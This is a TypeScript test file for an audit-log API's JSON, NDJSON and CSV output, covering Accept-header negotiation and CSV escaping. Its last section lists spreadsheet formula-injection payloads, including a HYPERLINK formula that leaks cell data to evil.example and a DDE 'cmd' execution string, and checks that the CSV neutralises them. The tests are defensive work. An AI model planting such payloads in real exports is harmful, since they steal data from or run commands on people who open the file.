import fc from 'fast-check'
import papaparse from 'papaparse'
import { beforeEach, describe, expect, test } from 'vitest'
import { call, problemOf } from '../harness.ts'
import { clear, keyOf, list, put, putAll, type Said } from './records.ts'

/** A listing as JSON, as CSV for spreadsheets and as NDJSON for tools, by what the caller accepts. */

beforeEach(clear)

const JSON_TYPE = 'application/json'
const NDJSON = 'application/x-ndjson'
const CSV = 'text/csv; charset=utf-8; header=present'

const as = (key: string, accept: string, path = '/v1/audit') => call(path, { key, headers: { accept } })

describe('Accept', () => {
  test.each([
    ['application/json', JSON_TYPE],
    ['text/csv', CSV],
    ['TEXT/CSV', CSV],
    ['text/csv; charset=utf-8', CSV],
    ['application/x-ndjson', NDJSON],
    ['*/*', JSON_TYPE],
    ['text/*', CSV],
    ['application/*', JSON_TYPE],
    ['text/csv, */*', CSV],
    ['*/*, text/csv', CSV],
    ['text/csv, application/json', JSON_TYPE],
    ['text/csv, application/x-ndjson', CSV],
    ['text/csv;q=0.4, application/x-ndjson;q=0.5', NDJSON],
    ['text/csv;q=0.5, */*;q=0.8', JSON_TYPE],
    ['application/json;q=0.1, text/csv;q=0.2', CSV],
    ['application/json;q=0.1, */*;q=0.2', CSV],
    ['application/json;q=0, application/*', NDJSON],
    ['text/csv;q=0, text/*', JSON_TYPE],
    ['text/csv;q=0', JSON_TYPE],
    ['text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', JSON_TYPE],
    ['image/png', JSON_TYPE],
    ['application/json;q=0', JSON_TYPE],
    ['nonsense', JSON_TYPE],
    [';;,,=', JSON_TYPE],
    ['', JSON_TYPE],
  ])('%s is answered with %s', async (accept, expected) => {
    const { status, headers } = await as(await keyOf('media'), accept)
    expect([status, headers.get('content-type')]).toEqual([200, expected])
  })

  test('is not needed', async () => {
    const { headers } = await call('/v1/audit', { key: await keyOf('media') })
    expect(headers.get('content-type')).toBe(JSON_TYPE)
  })

  test.each(['application/json', 'text/csv', 'application/x-ndjson'])(
    'is what the answer hangs on, as caches are told: %s',
    async (accept) => {
      expect((await as(await keyOf('media'), accept)).headers.get('vary')).toBe('accept')
    },
  )

  test('changes nothing of how an error is told', async () => {
    const response = await as(await keyOf('media'), 'text/csv', '/v1/audit?team=data')
    expect(response.headers.get('content-type')).toBe('application/problem+json')
    expect(await problemOf(response)).toMatchObject({ status: 403 })
  })
})

describe('NDJSON', () => {
  test('is the records of the JSON, a line each', async () => {
    const key = await keyOf('media')
    await putAll([{ warnings: '["a\\nb"]' }, { keyName: 'line\nbreak' }, {}])
    const text = await (await as(key, NDJSON)).text()
    expect(text).toMatch(/[^\n]\n$/)
    const lines = text.slice(0, -1).split('\n')
    expect(lines.map((line) => JSON.parse(line))).toEqual((await list(key)).records)
  })

  test('of nothing is nothing', async () => {
    expect(await (await as(await keyOf('media'), NDJSON)).text()).toBe('')
  })
})

const PARAMS =
  '{"bucket":"media-assets","domain":"cdn.media.example.com","queueId":"d41d8cd98f00b204e9800998ecf8427e"}'

/** The rows of a CSV answer, its header row first. */
async function rows(key: string, path?: string): Promise<string[][]> {
  const text = await (await as(key, 'text/csv', path)).text()
  expect(text.endsWith('\r\n')).toBe(true)
  const { data, errors } = papaparse.parse<string[]>(text.slice(0, -2), { newline: '\r\n', delimiter: ',' })
  expect(errors).toEqual([])
  return data
}

/** One record's cells by the names of their columns. */
async function cells(key: string): Promise<Record<string, string | undefined>> {
  const [names = [], row = []] = await rows(key)
  return Object.fromEntries(names.map((name, index) => [name, row[index]]))
}

describe('CSV', () => {
  test('has a column for each thing that a record says', async () => {
    const key = await keyOf('media')
    const record = await put({
      at: Date.UTC(2026, 0, 31, 12, 30, 1, 5),
      params: PARAMS,
      warnings: '[{"guardrail":"closed","pointer":"/enabled"}]',
      code: 'bucket_not_found',
      reverts: crypto.randomUUID(),
      sequence: 7,
    })
    expect(await cells(key)).toEqual({
      id: record.id,
      at: '2026-01-31T12:30:01.005Z',
      team: 'media',
      keyId: 'k1',
      keyName: 'ci',
      dialect: 'v1',
      operation: 'buckets.cors.update',
      jurisdiction: 'default',
      bucket: 'media-assets',
      domain: 'cdn.media.example.com',
      queueId: 'd41d8cd98f00b204e9800998ecf8427e',
      decision: 'allowed',
      rule: 'teams.media.grants[0]',
      code: 'bucket_not_found',
      warnings: '[{"guardrail":"closed","pointer":"/enabled"}]',
      outcome: 'happened',
      reconciled: 'false',
      upstreamStatus: '200',
      cfRay: '8f0c-AMS',
      durationMs: '21',
      clientAddress: '192.0.2.7',
      reverts: record.reverts,
      lane: 'bucket:default/media-assets',
      sequence: '7',
      previousHash: '0'.repeat(64),
      hash: 'a'.repeat(64),
      subject: 'bucket:default/media-assets',
      params: PARAMS,
      policyVersion: '3',
    })
  })

  test('leaves the cells of what is absent empty', async () => {
    const key = await keyOf('media')
    await put({
      rule: null,
      policyVersion: null,
      upstreamStatus: null,
      cfRay: null,
      durationMs: null,
      hash: null,
    })
    expect(await cells(key)).toMatchObject({
      domain: '',
      rule: '',
      policyVersion: '',
      upstreamStatus: '',
      cfRay: '',
      durationMs: '',
      hash: '',
    })
  })

  test('has a row a record, in the order of the list', async () => {
    const key = await keyOf('media')
    const ids = await putAll([{}, {}, {}])
    expect((await rows(key)).map(([id]) => id)).toEqual(['id', ...ids.reverse()])
  })

  test('has its header row on every page', async () => {
    const key = await keyOf('media')
    await putAll([{}, {}])
    const { nextCursor } = await list(key, { perPage: 1 })
    const [first, second] = [
      await rows(key, '/v1/audit?perPage=1'),
      await rows(key, `/v1/audit?cursor=${nextCursor}`),
    ]
    expect(second[0]).toEqual(first[0])
    expect([first.length, second.length]).toEqual([2, 2])
  })

  test('of nothing is a header row', async () => {
    expect(await rows(await keyOf('media'))).toHaveLength(1)
  })

  test('ends each line as RFC 4180 has it', async () => {
    const key = await keyOf('media')
    await putAll([{}, {}])
    const text = await (await as(key, 'text/csv')).text()
    expect(text.match(/\r\n/g)).toHaveLength(3)
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
  })

  test('gives any text back as it was', async () => {
    const key = await keyOf('media')
    const harmless = fc
      .string({ unit: 'grapheme', maxLength: 20 })
      .filter((text) => /^[\p{L}\p{N}"',; ]/u.test(text))
    await fc.assert(
      fc.asyncProperty(harmless, async (keyName) => {
        await clear()
        await put({ keyName })
        expect((await cells(key)).keyName).toBe(keyName)
      }),
      { numRuns: 50 },
    )
  })
})

describe('a spreadsheet that opens the CSV', () => {
  const FORMULAS = [
    '=1+1',
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+cmd',
    '-2+3',
    '@SUM(1,2)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '=1\n+cmd',
    '=1\r\n+cmd',
    '"=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ]
  const fields = ['keyName', 'rule', 'subject', 'bucket', 'code', 'cfRay', 'clientAddress'] as const

  test.each(FORMULAS)('does not take %j for a formula', async (formula) => {
    const key = await keyOf('media')
    const said: Said = Object.fromEntries(fields.map((field) => [field, formula]))
    await put(said)
    const found = await cells(key)
    const begun = fields.map((field) => found[field]?.charAt(0))
    expect(begun.filter((letter) => letter !== "'" && letter !== '"')).toEqual([])
  })

  test('meets no cell that begins as a formula does, whatever a record says', async () => {
    const key = await keyOf('media')
    const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '', '"', ',', '"",=')
    const text = fc.tuple(start, fc.string({ unit: 'grapheme', maxLength: 8 })).map((parts) => parts.join(''))
    await fc.assert(
      fc.asyncProperty(text, text, async (keyName, rule) => {
        await clear()
        await put({ keyName, rule })
        const table = await rows(key)
        expect(table.map((row) => row.length)).toEqual([29, 29])
        expect(table.flat().filter((cell) => /^[=+\-@\t\r\n]/.test(cell))).toEqual([])
      }),
      { numRuns: 100 },
    )
  })
})
